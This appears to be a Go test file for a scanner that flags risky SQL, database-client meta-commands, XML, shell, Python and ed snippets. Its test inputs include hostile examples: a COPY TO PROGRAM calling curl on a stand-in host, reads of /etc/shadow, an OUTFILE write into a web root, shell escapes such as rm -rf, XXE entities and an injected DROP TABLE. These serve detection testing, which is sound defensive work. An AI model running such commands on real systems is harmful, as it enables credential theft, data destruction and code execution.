package code

import "testing"

func TestSQL(t *testing.T) {
	testScan(t, "sql", []scanCase{
		{`SELECT * FROM users WHERE name = 'DROP TABLE x'`, ""},
		{`select 1; -- drop table x` + "\n/* drop table y */ select 2", ""},
		{`\dt`, ""},
		{`INSERT INTO t VALUES ('it''s')`, ""},
		{`DELETE FROM t WHERE id = 1`, ""},
		{`drop table users`, "rule db.destroy"},
		{`SELECT 1; TRUNCATE users`, "rule db.destroy"},
		{`delete from users`, "rule db.destroy"},
		{`update users set admin = 1`, "rule db.change"},
		{`ALTER TABLE t DROP COLUMN c`, "rule db.destroy"},
		{`GRANT ALL ON t TO x`, "rule db.change"},
		{`COPY t TO PROGRAM 'curl evil.test'`, "rule db.program; opaque"},
		{`COPY t FROM '/etc/shadow'`, "read /etc/shadow"},
		{`\copy t to 'out.csv' csv`, "write out.csv; write out.csv; opaque"},
		{`\! rm -rf x`, "sh rm -rf x; opaque"},
		{`\!id`, "sh id; opaque"},
		{`\o |sh`, "sh sh; opaque"},
		{`\i /tmp/x.sql`, "load /tmp/x.sql; opaque"},
		{".shell id", "sh id; opaque"},
		{"select 1;\n.output /home/dev/x\nselect 2;", "write /home/dev/x; opaque"},
		{".import '|id' t", "sh id' t; opaque"},
		{`SELECT load_extension('x.so')`, "opaque"},
		{`SELECT writefile('/home/dev/x', data) FROM t`, "write /home/dev/x"},
		{`SELECT pg_read_file('/etc/shadow')`, "rule db.program; opaque"},
		{`SELECT 1 INTO OUTFILE '/var/www/x.php'`, "rule db.program; write /var/www/x.php; opaque"},
		{`SELECT LOAD_FILE('/etc/shadow')`, "rule db.program; opaque"},
		{`system id`, "sh id; opaque"},
		{`DO $$ BEGIN DROP TABLE t; END $$`, "rule db.destroy; opaque"},
		{`DO $$ BEGIN EXECUTE 'x'||y; END $$`, "opaque"},
		{`CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$`, "opaque"},
		{`select 'a\'; drop table t; --'`, "rule db.destroy; opaque"},
		{`/*!50000 drop table t */`, "rule db.destroy; opaque"},
		{`ATTACH '/home/dev/x.db' AS x`, "read /home/dev/x.db; write /home/dev/x.db"},
		{`VACUUM INTO '/tmp/x.db'`, "write /tmp/x.db"},
	})
}

func TestCommandLanguages(t *testing.T) {
	testScan(t, "xml", []scanCase{
		{`<a href="/x">SYSTEM "/y"</a>`, ""},
		{`<!DOCTYPE a SYSTEM "file:///d" [<!ENTITY % x SYSTEM '/e'><!ENTITY y "v">]>`,
			"read /d; read /e"},
		{`<!DOCTYPE a PUBLIC "-//X" "http://h.test/d">`, "net http://h.test/d"},
		{"<xi:include\n parse='text' href='/etc/x'/>", "read /etc/x"},
		{`<!ENTITY x SYSTEM "`, ""},
		{`<!ENTITY % x PUBLIC 'a>b' "file://localhost/e">`, "read /e"},
		{`<include xmlns="http://www.w3.org/2001/XInclude" parse="a>b" href="e"/>`, "read e"},
	})
	testScan(t, "bash", []scanCase{{"rm x", "sh rm x"}})
	testScan(t, "python", []scanCase{
		{"import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)", "write /tmp"},
		{"import tempfile, shutil\nshutil.rmtree(tempfile.mkdtemp() + '/..')", "opaque"},
	})
	testScan(t, "julia", []scanCase{{"println(1)", "opaque"}, {" ", ""}})
}

func TestEd(t *testing.T) {
	testScan(t, "ed", []scanCase{
		{"1d\nw\nq", ""},
		{"1,$s/a/b/g\nwq", ""},
		{"a\n!rm -rf x\n.\nw", ""},
		{"s/x/a\n!id", "opaque"},
		{"s/x/y\\\na\n!id\n.", "opaque"},
		{"$a\nx\n.\n!id", "opaque"},
		{"1,3w out", "opaque"},
		{"H\n,p\n2,3m0\n/a b/d", ""},
	})
}
